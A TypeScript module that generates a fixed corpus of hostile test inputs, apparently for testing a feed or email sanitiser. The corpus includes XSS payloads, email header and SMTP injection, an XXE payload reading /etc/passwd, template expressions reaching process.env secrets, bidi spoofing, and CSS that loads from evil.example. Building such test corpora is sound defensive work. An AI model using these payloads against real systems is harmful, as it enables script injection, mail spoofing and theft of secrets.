/**
 * Hostile copy, built from a grammar of our own: what a poisoned feed can put into a headline, a text, a name or an address. Each payload
 * belongs to a family, so that a miss says what kind it is. The list is the same at every run.
 */
export interface Payload {
  family: 'element' | 'handler' | 'address' | 'style' | 'header' | 'bidi' | 'template' | 'mime' | 'document';
  text: string;
}

const elements =
  'script img svg iframe object embed style link meta base form input button video audio math template noscript details marquee body html frameset textarea select xmp plaintext portal o:p v:shape isindex applet bgsound foreignObject annotation-xml table'.split(
    ' ',
  );
const inside: Record<string, string> = {
  script: 'alert(1)',
  style: '*{display:none}',
  link: ' rel=stylesheet href=//evil.example/x.css',
  meta: ' http-equiv=refresh content="0;url=//evil.example"',
  base: ' href=//evil.example/',
  form: ' action=//evil.example/',
  img: ' src=//evil.example/pixel.gif',
  iframe: ' src=//evil.example/',
  object: ' data=//evil.example/',
  embed: ' src=//evil.example/',
  svg: ' onload=alert(1)',
  button: ' formaction=javascript:alert(1)',
  input: ' autofocus onfocus=alert(1)',
};
const entityOf = (letter: string, hex: boolean) =>
  `&#${hex ? `x${letter.charCodeAt(0).toString(16)}` : letter.charCodeAt(0)};`;
const everyAngle = (text: string, write: (angle: string) => string) => text.replace(/[<>]/g, write);
/** One piece of markup in the dresses in which decoders have met it. */
const dresses: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => everyAngle(text, (angle) => (angle === '<' ? '&lt;' : '&gt;')),
  (text) => everyAngle(text, (angle) => entityOf(angle, false)),
  (text) => everyAngle(text, (angle) => entityOf(angle, true).replace(';', '')),
  (text) => everyAngle(text, (angle) => (angle === '<' ? '&amp;lt;' : '&amp;gt;')),
  (text) => everyAngle(text, (angle) => (angle === '<' ? '\uff1c' : '\uff1e')),
  (text) => everyAngle(text, (angle) => (angle === '<' ? '\\u003c' : '\\u003e')),
  (text) => everyAngle(text, (angle) => (angle === '<' ? '%3C' : '%3E')),
  (text) => text.replace(/^<(.)/, '<\u0000$1'),
  (text) => text.replace('<', '<\n'),
  (text) => text.replace(/>$/, ''),
];

const breakOuts = [
  '',
  '">',
  "'>",
  '`>',
  '</a>',
  '</td></tr></table>',
  '</style>',
  '</title>',
  '-->',
  ']]>',
  '</p></div>',
  '</svg>',
];
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const carriers = ['img src=x', 'svg', 'details open'];
const separators = [' ', '/', '\t', '\n', '\u000c', '\u00a0'];

const schemes = [
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'about:blank',
  'ftp://evil.example/x',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'cid:part1@evil.example',
  'x-scheme:open',
  'view-source:https://evil.example/',
  'intent://evil.example#Intent;end',
];
const disguises: ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) => ` ${address}`,
  (address) => `\u0001${address}`,
  (address) => address.replace(':', '\t:'),
  (address) => address.replace(/^(..)/, '$1\n'),
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(/^(.)/, (letter) => entityOf(letter, true)),
  (address) => encodeURIComponent(address),
  (address) => `${address}" onclick="alert(1)`,
  (address) => `https://ok.example/"><a href="${address}`,
  (address) => `https://user:pass@evil.example/${address}`,
];

const styles = [
  'background:url(//evil.example/p.png)',
  'behavior:url(#x)',
  '-moz-binding:url(//evil.example/x.xml#x)',
  'width:expression(alert(1))',
  'position:fixed;inset:0',
  'content:url(//evil.example)',
  '@import "//evil.example/x.css"',
  '@font-face{src:url(//evil.example/f)}',
  'display:none!important',
  'list-style-image:url(data:image/svg+xml,x)',
];
const styleWays: ((rule: string) => string)[] = [
  (rule) => `" style="${rule}`,
  (rule) => `' style='${rule}`,
  (rule) => `;${rule};`,
  (rule) => `}*{${rule}}`,
  (rule) => `</style><style>*{${rule}}</style>`,
  (rule) => `<p style="${rule}">`,
  (rule) => `/*${rule}*/`,
  (rule) => rule.replace(/[a-z]/, (letter) => `\\00${letter.charCodeAt(0).toString(16)} `),
];

const lineBreaks = [
  '\r\n',
  '\n',
  '\r',
  '\n\r',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u000b',
  '\u000c',
  '\u0000\r\n',
  '%0d%0a',
  '=0D=0A',
  '\r\n ',
  '\r\n\t',
  '\\r\\n',
];
const headers = [
  'Bcc: all@evil.example',
  'To: all@evil.example',
  'Cc: all@evil.example',
  'Subject: forged',
  'From: desk@evil.example',
  'Reply-To: evil@evil.example',
  'Content-Type: text/html',
  'MIME-Version: 1.0',
  'List-Unsubscribe: <https://evil.example>',
  'X-SES-CONFIGURATION-SET: none',
  'Return-Path: <evil@evil.example>',
  '\r\n<script>alert(1)</script>',
];

const bidi = [
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
];
const bidiWays: ((mark: string) => string)[] = [
  (mark) => `${mark}fdp.exe`,
  (mark) => `killed ${mark}21 of 12`,
  (mark) => `${mark}${mark}x${mark}`,
  (mark) => `<b${mark}>`,
];

const templates: [string, string][] = [
  ['{{', '}}'],
  ['{{{', '}}}'],
  ['${', '}'],
  ['#{', '}'],
  ['<%=', '%>'],
  ['{%', '%}'],
  ['[[', ']]'],
  ['@{', '}'],
  ['%{', '}'],
  ['*|', '|*'],
  ['<?=', '?>'],
  ['{!', '}'],
];
const expressions = [
  '7*7',
  'constructor.constructor("alert(1)")()',
  '__proto__',
  'unsubscribeUrl',
  'process.env',
  'env.TOKEN_SECRET',
  'amazonSESUnsubscribeUrl',
  'FNAME',
];

const mime = [
  '--boundary',
  '----_NmP-0123456789abcdef-Part_1',
  '=?utf-8?q?=3Cscript=3E?=',
  '=?utf-8?b?PHNjcmlwdD4=?=',
  '=?utf-8?q?a=0D=0ABcc=3A_all=40evil.example?=',
  '=3Cscript=3Ealert(1)=3C/script=3E',
  'begin 644 x.exe',
  '.\r\n',
  '\r\n.\r\nMAIL FROM:<evil@evil.example>',
  'From evil@evil.example',
  '=',
  '=\r\n',
  '=C3',
  `${'a'.repeat(1200)}`,
  '\u00ad\u00ad',
  '=?utf-8?q?=C0=BCscript?=',
];
const documents = [
  '<!--',
  '-->',
  '<!-->',
  '<!--[if mso]><script>1</script><![endif]-->',
  '<![CDATA[',
  ']]>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&e;',
  '&#0;',
  '&#x110000;',
  '&#xD800;',
  '\ud800',
  '\udc00x',
  '\uffff',
  '\u0000',
  '&amp;amp;lt;',
  '","url":"javascript:1',
  '\\"}],"x":[{',
  '</script>',
  '</feed>',
  '</entry><entry>',
  '</content>',
  '<content type="html">',
];

/** Every family crossed with itself: see the counts in payloads.test.ts. */
export function listPayloads(): Payload[] {
  const found: Payload[] = [];
  const add = (family: Payload['family'], texts: string[]) => {
    for (const text of texts) found.push({ family, text });
  };
  add(
    'element',
    elements.flatMap((name) =>
      dresses.map((dress) => {
        const more = inside[name] ?? ' id=x';
        const isAttribute = more.startsWith(' ');
        return dress(`<${name}${isAttribute ? more : ''}>${isAttribute ? '' : more}</${name}>`);
      }),
    ),
  );
  add(
    'handler',
    events.flatMap((event) =>
      breakOuts.flatMap((out, at) =>
        carriers.map((carrier) => `${out}<${carrier}${separators[at % separators.length]}${event}=alert(1)>`),
      ),
    ),
  );
  add(
    'handler',
    events.flatMap((event) =>
      separators.flatMap((separator) =>
        ['"', "'", '`'].map((quote) => `${quote}${separator}${event}=${quote}alert(1)`),
      ),
    ),
  );
  add(
    'address',
    schemes.flatMap((scheme) =>
      disguises.flatMap((disguise) => [disguise(scheme), `<a href="${disguise(scheme)}">x</a>`]),
    ),
  );
  add(
    'style',
    styles.flatMap((rule) => styleWays.map((way) => way(rule))),
  );
  add(
    'header',
    lineBreaks.flatMap((line) => headers.map((header) => `${line}${header}`)),
  );
  add(
    'bidi',
    bidi.flatMap((mark) => bidiWays.map((way) => way(mark))),
  );
  add(
    'template',
    templates.flatMap(([open, close]) => expressions.map((expression) => `${open}${expression}${close}`)),
  );
  add(
    'mime',
    mime.flatMap((part) => ['', '\r\n', 'x '].map((before) => before + part)),
  );
  add(
    'document',
    documents.flatMap((part) => [part, `${part}<b>`]),
  );
  const unique = new Map(found.map((payload) => [payload.text, payload]));
  return [...unique.values()];
}
